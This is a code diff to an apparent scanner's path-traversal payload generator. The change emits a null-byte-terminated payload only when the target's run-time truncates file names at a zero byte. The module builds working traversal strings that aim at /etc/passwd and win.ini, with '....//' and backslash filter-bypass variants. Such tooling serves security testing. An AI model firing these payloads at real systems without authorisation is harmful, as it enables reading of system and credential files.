@@ -11,6 +11,8 @@ export interface TraversalPlace {
   readonly isWindows: boolean;
   /** Path of the Java web application on its server, `/` for the root; null when unknown. */
   readonly contextPath: string | null;
+  /** The site shows a run-time of which old versions end a file name at a zero byte; others fail on one, and a careless program with them. */
+  readonly endsAtZero: boolean;
   /** Path of a static file of the site whose text is known. */
   readonly knownPath: string | null;
 }
@@ -40,7 +42,7 @@ export function traversalPayloads(place: TraversalPlace): string[] {
   return [...new Set(payloads)].slice(0, PAYLOADS_MAX[place.server]);
 }
 
-function unixPayloads({ example, knownPath }: TraversalPlace): string[] {
+function unixPayloads({ example, endsAtZero, knownPath }: TraversalPlace): string[] {
   const ending = /\.[a-z][a-z0-9]{1,4}$/i.exec(example)?.[0] ?? '';
   return [
     `/${up(DEEP)}${PASSWD}`,
@@ -49,7 +51,7 @@ function unixPayloads({ example, knownPath }: TraversalPlace): string[] {
     `/${up(DEEP, '....//')}${PASSWD}`,
     `/${PASSWD}`,
     // Where an ending is demanded or appended, old run-times end the name before it.
-    `/${up(DEEP)}${PASSWD}\u0000${ending}`,
+    ...(endsAtZero ? [`/${up(DEEP)}${PASSWD}\u0000${ending}`] : []),
     // Filters that know `../` alone, before code that takes both separators; and Windows where no banner tells.
     backslashes(up(DEEP) + PASSWD),
     backslashes(up(DEEP) + WIN_INI),
